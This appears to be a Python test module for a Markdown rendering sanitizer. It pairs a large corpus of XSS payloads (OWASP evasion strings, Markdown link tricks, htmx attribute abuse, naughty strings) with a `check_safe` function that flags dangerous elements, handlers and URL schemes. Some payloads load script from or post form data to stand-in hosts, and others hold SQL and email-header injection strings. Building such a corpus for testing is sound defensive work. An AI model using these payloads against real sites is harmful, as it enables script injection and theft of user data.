"""XSS payloads and the invariants every piece of rendered user Markdown must keep (CX-6, CX-7).

Sources: the TEST-PLAN §3 probes, the OWASP XSS Filter Evasion Cheat Sheet, cujanovic's
Markdown-XSS-Payloads, the htmx security notes (hx-*/data-hx-* in user content) and a few
entries of the Big List of Naughty Strings. `check_safe` parses the HTML the way a browser
would (entities decoded once, URL whitespace and control characters handled per the WHATWG
URL standard) and returns every problem it finds.
"""

import re
from html.parser import HTMLParser

# Elements that run script, load content or change how the page or its forms behave.
SCRIPT_CAPABLE = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "style",
    "link",
    "meta",
    "base",
    "form",
    "img",
    "image",
    "input",
    "button",
    "textarea",
    "select",
    "option",
    "keygen",
    "isindex",
    "video",
    "audio",
    "source",
    "track",
    "picture",
    "template",
    "portal",
    "noscript",
    "xmp",
    "plaintext",
    "noembed",
    "noframes",
    "marquee",
    "bgsound",
    "layer",
    "ilayer",
    "xss",
}
# Attributes holding a URL the browser may follow, load or execute.
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "background",
    "poster",
    "cite",
    "data",
    "codebase",
    "dynsrc",
    "lowsrc",
    "srcset",
    "ping",
    "longdesc",
    "manifest",
}
SAFE_SCHEMES = {"http", "https", "mailto"}
# Attributes that are never acceptable in user content, whatever their value.
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "id", "name", "form", "target", "is"}
SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")
C0_OR_SPACE = "".join(chr(c) for c in range(0x21))
TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")

J = "javascript"
A = "alert(1)"

# -- TEST-PLAN §3 style probes -------------------------------------------------------------
PLAN_PROBES = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<div hx-get="/admin/users" hx-trigger="load">x</div>',
    '<a data-hx-post="/workrooms/1/messages/1/delete" data-hx-trigger="load">x</a>',
    '<p hx-on:click="alert(1)">x</p>',
    "<p hx-on::load=alert(1)>x</p>",
    '<div hx-swap-oob="true" id="composer">spoofed</div>',
    '<div hx-boost="true"><a href="/logout">x</a></div>',
    "{{7*7}} {% raw %}${7*7}{% endraw %} #{7*7}",
]

# -- OWASP XSS Filter Evasion Cheat Sheet --------------------------------------------------
OWASP = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "<SCRIPT>alert(1)",
    '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT ="blah" SRC="https://xss.example/xss.js"></SCRIPT>',
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '\\";alert(1);//',
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    '<IMG SRC=# onmouseover="alert(1)">',
    '<IMG SRC= onmouseover="alert(1)">',
    '<IMG onmouseover="alert(1)">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC="jav&#x0D;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
    '<a href="jav&#x0D;ascript:alert(1)">cr</a>',
    '<a href="jav\nascript:alert(1)">raw newline</a>',
    '<a href=" &#14; javascript:alert(1)">leading control</a>',
    '<a href="&#1;javascript:alert(1)">leading SOH</a>',
    '<a href="\x00javascript:alert(1)">leading NUL</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="javascript&#58;alert(1)">decimal colon</a>',
    '<a href="javascript&#x3A;alert(1)">hex colon</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    '<a href="&#106;avascript:alert(1)">decimal j</a>',
    '<a href="JAVASCRIPT:alert(1)">upper</a>',
    '<a href="  javascript:alert(1)">spaces</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="VBScript:msgbox(1)">vbscript caps</a>',
    '<a href="livescript:alert(1)">livescript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data b64</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data html</a>',
    '<a href="DaTa:text/html,<script>alert(1)</script>">data caps</a>',
    '<a href="data&#x3A;text/html,<script>alert(1)</script>">data encoded colon</a>',
    '<a href="file:///etc/passwd">file</a>',
    '<a href="blob:https://localhost/x">blob</a>',
    '<a href="filesystem:https://localhost/x">filesystem</a>',
    '<a href="x-javascript:alert(1)">unknown scheme</a>',
    "<BODY ONLOAD=alert(1)>",
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<BGSOUND SRC="javascript:alert(1);">',
    '<BR SIZE="&{alert(1)}">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
    '<DIV STYLE="background-image: url(javascript:alert(1))">',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053"
    "\\0053\\0027\\0029'\\0029\">",
    '<DIV STYLE="width: expression(alert(1));">',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
    '<p style="color:red;background:url(javascript:alert(1))">styled</p>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<STYLE TYPE="text/javascript">alert(1);</STYLE>',
    '<STYLE>.XSS{background-image:url("javascript:alert(1)");}</STYLE><A CLASS=XSS></A>',
    '<STYLE type="text/css">BODY{background:url("javascript:alert(1)")}</STYLE>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(1);">',
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:alert(1)">',
    '<TABLE><TD BACKGROUND="javascript:alert(1)">',
    "<table><tr><td onmouseover=alert(1)>cell</td></tr></table>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)"></object>',
    '<EMBED SRC="https://xss.example/xss.swf" AllowScriptAccess="always"></EMBED>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess="always">',
    '<applet code="xss.class"></applet>',
    '<BASE HREF="javascript:alert(1);//">',
    '<base href="https://evil.example/">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<form id=composer action="https://evil.example/steal"><input name=body></form>',
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    '<a onmouseover="alert(1)">xxs link</a>',
    '<a href="https://ok.example" onclick="alert(1)">mixed</a>',
    '<a href="https://ok.example" ONCLICK="alert(1)">caps handler</a>',
    '<a href="https://ok.example"/onclick="alert(1)">slash handler</a>',
    '<a href="https://ok.example" title="x" onclick=\'alert(1)\'>quoted handler</a>',
    "<b onmouseover=alert(1)>bold</b>",
    "<blockquote onmouseover=alert(1)>q</blockquote>",
    "<h1 onclick=alert(1)>h</h1>",
    "<li onclick=alert(1)>li</li>",
    "<code onclick=alert(1)>c</code>",
    '<abbr title="x" onclick=alert(1)>abbr</abbr>',
    "<td align=left onclick=alert(1)>td</td>",
    "<SVG><SCRIPT>alert(1)</SCRIPT></SVG>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">CLICK</maction>'
    "</math>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">X</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    '<div id="x"><a href="#" id="y">clobber</a></div>',
    '<a name="body">named</a>',
    '<a href="https://ok.example" target="_blank">tabnabbing</a>',
    '<a href="https://ok.example" is="x-evil">custom element</a>',
    '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></xml>',
    '<HTML xmlns:xss><?import namespace="xss" implementation="https://xss.example/xss.htc">'
    "<xss:xss>XSS</xss:xss></HTML>",
    "<video poster=javascript:alert(1)//></video>",
    '<a href="https://ok.example" ping="https://tracker.example">ping</a>',
    '<p><a href="#" background="javascript:alert(1)">bg</a></p>',
]

# -- Markdown-specific (cujanovic/Markdown-XSS-Payloads and friends) -----------------------
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript://%0Aalert(1))",
    "[x](javascript://%0dalert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[a](javascript:prompt(document.cookie))",
    "[a](j a v a s c r i p t:prompt(document.cookie))",
    "[a](javascript:window.onerror=alert;throw%201)",
    "[notmalicious](javascript:window.onerror=alert;throw%20document.cookie)",
    '[x](https://ok.example "title" onclick=alert(1))',
    '[x](https://ok.example"onclick="alert(1))',
    "[x](https://ok.example'onclick='alert(1))",
    '[x](#"onmouseover="alert(1))',
    '[x](https://ok.example ""onmouseover="alert(1)")',
    "[x]('javascript:alert(1)')",
    '[x]("javascript:alert(1)")',
    "![x](http://evil.example/pixel.png)",
    '![x](https://evil.example/pixel.png "tracking")',
    '![x"onerror="alert(1)](x)',
    '![x](x"onerror="alert(1))',
    "![x](javascript:alert(1))",
    "![x][pix]\n\n[pix]: http://evil.example/pixel.png",
    "[a][r]\n\n[r]: javascript:alert(1)",
    '[a][r]\n\n[r]: JAVASCRIPT:alert(1) "title"',
    "[a][r]\n\n[r]: <javascript:alert(1)>",
    "[r]\n\n[r]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<http://ok.example" onclick="alert(1)>',
    "<mailto:a@example.com?body=<script>alert(1)</script>>",
    '<a@example.com" onclick="alert(1)>',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "**<script>alert(1)</script>**",
    "_<img src=x onerror=alert(1)>_",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```" onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "* [x](javascript:alert(1))\n* <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "| a <img src=x onerror=alert(1)> |\n|---|\n| b |",
    "<div>\n<script>alert(1)</script>\n</div>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "<details>\n<summary>open</summary>\n<img src=x onerror=alert(1)>\n</details>",
    "<p>\n\n[x](javascript:alert(1))\n\n</p>",
    "<style>\n* { display: none }\n</style>",
    "<!-- [x](javascript:alert(1)) -->",
    '<a href="https://ok.example">[x](javascript:alert(1))</a>',
    '[x](javascript:alert(1) "t")',
    "[x](javascript:alert&#40;1&#41;)",
    "[x](javascript:alert%281%29)",
    "[x](%6Aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](/\\/evil.example)",
    "[x](//evil.example)",
    "[x](//evil.example/javascript:alert(1))",
    "[x](https://ok.example/?q=<script>alert(1)</script>)",
    "[x](mailto:a@example.com)",
    "[x](MAILTO:a@example.com)",
    '<a href="mailto:a@example.com">mail</a>',
    "[x]: javascript:alert(1)\n[x]",
    "Setext\n===\n<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>single</a>",
    "<a href=javascript:alert(1)>unquoted</a>",
    '<a href="javascript:alert(1)"\n>multiline</a>',
    '<A HREF="//evil.example">protocol relative</A>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049"
    '&#0000041">long entities</a>',
]

# -- Big List of Naughty Strings (a handful) -----------------------------------------------
NAUGHTY = [
    "",
    " ",
    "\u200b",
    "\ufeff",
    "\u202eRTL override\u202c",
    "ねこ 田中さんにあげて下さい",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳",
    "😍 👩🏽 ❤️ 💔",
    "\x00\x01\x02\x1b[31m",
    "%s%s%s%n",
    "' OR 1=1 -- ",
    '<>?:"{}|_+',
    "'';!--\"<XSS>=&{()}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth brackets
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    'ABC<div style="x\x3aexpression(alert(1))">DEF',
    'ABC<div style="x:\xe2\x80\x8bexpression(alert(1))">DEF',
    '<a href="\\x0Bjavascript:alert(1)" id="fuzzelement1">test</a>',
    '<a href="\x0bjavascript:alert(1)">vertical tab</a>',
    '<a href="\x1fjavascript:alert(1)">unit separator</a>',
    '<a href="java\x00script:alert(1)">nul inside</a>',
    "`\"'><img src=xxx:x \x0aonerror=javascript:alert(1)>",
    "<img src=xxx:x \x0bonerror=javascript:alert(1)>",
    "\"`'><script>\xe2\x80\x89javascript:alert(1)</script>",
    "<!--[if]><script>alert(1)</script -->",
    "<!--[if<img src=x onerror=javascript:alert(1)//]> -->",
    '<script src="data:text/javascript,alert(1)"></script>',
    "1;DROP TABLE users",
    "\r\n\r\nBcc: a@evil.example",
    "\u03a9\u2248\u00e7\u221a\u222b\u02dc\u00b5\u2264\u2265\u00f7",  # math symbols
    # "The quick brown fox" in double-struck letters
    "".join(chr(0x1D552 + ord(c) - ord("a")) if c.isalpha() else c for c in "the quick brown fox"),
]

CORPUS = [*PLAN_PROBES, *OWASP, *MARKDOWN, *NAUGHTY]


class _Collector(HTMLParser):
    """Every element and attribute of a fragment, with entities decoded like a browser."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, [(name, value)])

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))


def url_scheme(value):
    """The scheme a browser would see in an attribute value (already entity-decoded), or None.

    WHATWG URL parsing: leading and trailing C0 controls and spaces are stripped, and every
    ASCII tab or newline is removed wherever it is, so `java\\tscript:` is `javascript:`.
    """
    cleaned = TAB_OR_NEWLINE.sub("", (value or "").strip(C0_OR_SPACE))
    match = SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def element_problems(tag, attrs):
    """Problems of one element of rendered user content (attribute values entity-decoded)."""
    problems = []
    if tag in SCRIPT_CAPABLE or ":" in tag:
        problems.append(f"element <{tag}>")
    for name, value in attrs:
        if name.startswith("on"):
            problems.append(f"event handler {name}= on <{tag}>")
        if name in FORBIDDEN_ATTRIBUTES:
            problems.append(f"attribute {name}= on <{tag}>")
        if name.startswith(("hx-", "data-hx-")):
            problems.append(f"htmx attribute {name}= on <{tag}>")
        if name in URL_ATTRIBUTES:
            scheme = url_scheme(value)
            if scheme is not None and scheme not in SAFE_SCHEMES:
                problems.append(f"{name}={value!r} on <{tag}> has scheme {scheme}:")
    return problems


def check_safe(html):
    """Problems that would let rendered user content run script or act on the page."""
    parser = _Collector()
    parser.feed(html)
    parser.close()
    problems = []
    for tag, attrs in parser.elements:
        problems.extend(element_problems(tag, attrs))
    if re.search(r"<\s*/?\s*script", html, re.IGNORECASE):
        problems.append("the text <script appears unescaped")
    return problems
